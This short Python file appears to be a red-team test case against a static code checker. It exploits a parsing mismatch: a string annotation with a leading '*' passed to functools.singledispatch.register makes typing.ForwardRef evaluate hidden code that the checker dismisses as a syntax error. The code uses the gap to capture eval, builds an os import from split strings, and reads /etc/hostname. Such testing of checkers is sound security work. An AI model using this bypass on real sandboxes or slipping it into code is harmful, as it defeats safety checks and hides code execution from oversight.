# family: red team, round 8 (star_string_annotation_register)
# typing.ForwardRef compiles a string annotation that starts with "*" as "(<arg>,)[0]" (for *Ts). The checker
# parses the string as written; "*..." is a SyntaxError there, which it treats as "not an expression,
# nothing runs" - both in the string-annotation rule and in the @register annotation rule. So
# @dispatch.register evaluates any expression hidden behind a leading star, with the module's builtins.
import functools


class Keeper:
    def __init__(self):
        self.kept = []

    def grab(self, value):
        self.kept.append(value)
        return [int]


keeper = Keeper()


@functools.singledispatch
def dispatch(x):
    return x


@dispatch.register
def _(x: "*keeper.grab(eval)") -> None:
    return None


def run():
    ev = keeper.kept[0]
    u = "_"
    osmod = ev(u + u + "import" + u + u + "('os')")
    return ev.__name__, type(osmod).__name__, osmod.getpid(), ev("open('/etc/hostname').read()").strip()


print(run())
